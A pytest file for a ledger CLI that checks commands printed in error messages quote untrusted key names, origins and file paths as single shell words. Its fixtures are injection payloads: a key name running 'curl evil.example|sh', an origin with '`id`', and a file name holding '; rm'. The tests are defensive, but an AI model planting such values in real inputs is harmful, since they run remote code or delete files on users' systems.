"""Commands and references a message tells the user to type carry their values as shell words
(rev48 finding 1, its other place classes): another log's key name (a vkey's, its signer's
text: no space and no ``+``, but ``'``, ``;`` and ``$(...)`` it may hold), another log's
origin (an import's; refused for a new log, `names.origin_problem`, only warned of when
imported) and a path the user gave. Each test reads the command back as a shell does
(`shlex.split`) and wants the value one word, as it is.
"""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from click.testing import CliRunner

from trajledger.ledger.encode import vkey_string
from trajledger.verify.errors import ProvenanceError

VKEY = vkey_string("x';$(curl${IFS}evil.example|sh);'", bytes(range(32)))
"""A log's verifier key whose name closes the prose quote and runs a command (no space)."""
ORIGIN = "evil.example/log';`id`;'+abcdef12"
"""An imported log's origin and key hash, as `catalog.Origins` names it."""


def argv(text: str, start: str, end: str) -> list[str]:
    """The words a shell reads from ``text`` between ``start`` and ``end`` (both included)."""
    i = text.index(start)
    return shlex.split(text[i:text.index(end, i) + len(end)])


def test_a_lost_floors_pin_command_names_the_vkey_as_one_word(tmp_path: Path) -> None:
    """`first_use.refuse_lost`'s ``Pin the checkpoint you trust: 'trajledger trust VKEY
    --checkpoint FILE'`` (a copied ledger's log key; likewise its first use's notice, the
    trust state's refusals, ``--accept-rollback`` and the clock's step)."""
    from trajledger.ledger.first_use import refuse_lost

    with pytest.raises(ProvenanceError) as e:
        refuse_lost("log x", VKEY, tmp_path / "state")
    assert argv(str(e.value), "trajledger trust", "FILE") == [
        "trajledger", "trust", VKEY, "--checkpoint", "FILE"], str(e.value)


def test_a_name_clash_names_the_imported_record_as_one_word() -> None:
    """`catalog.taken_from`'s ``refer to the imported one as 'ORIGIN+KEYHASH+NAME@V'`` (and
    an import's clash lines, `updates`)."""
    from trajledger.ledger.catalog import taken_from

    (line,) = taken_from("dataset", "grid", "1", "sha256:" + "a" * 64,
                         ((ORIGIN, "sha256:" + "b" * 64, 3),))
    said = line[line.index("refer to the imported one as ") + 29:]
    assert said[0] == "'" and said[-1] == "'", line  # (in prose quotes, as before)
    assert shlex.split(said[1:-1]) == [f"{ORIGIN}+grid@1"], line


def test_a_bundle_file_given_as_a_ref_is_one_word_in_the_commands_told(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`clikit.not_a_bundle`: ``show FILE`` of a bundle file names it in ``'trajledger verify
    FILE --policy POLICY'`` and ``'trajledger import FILE --key APPROVER'``: a file named
    ``it's; rm x.tar.zst`` (a download's name) was pasted as code."""
    from trajledger.runner.cli import main

    name = "it's; rm x.tar.zst"
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_bytes(b"x")
    r = CliRunner().invoke(main, ["--ledger", str(tmp_path / "none"), "show", name])
    assert r.exit_code == 2 and "a bundle file" in r.output, r.output
    text = " ".join(r.output.split())  # (click wraps a usage error's line)
    assert argv(text, "trajledger verify", "POLICY")[2] == name, text
    assert argv(text, "trajledger import", "APPROVER")[2] == name, text
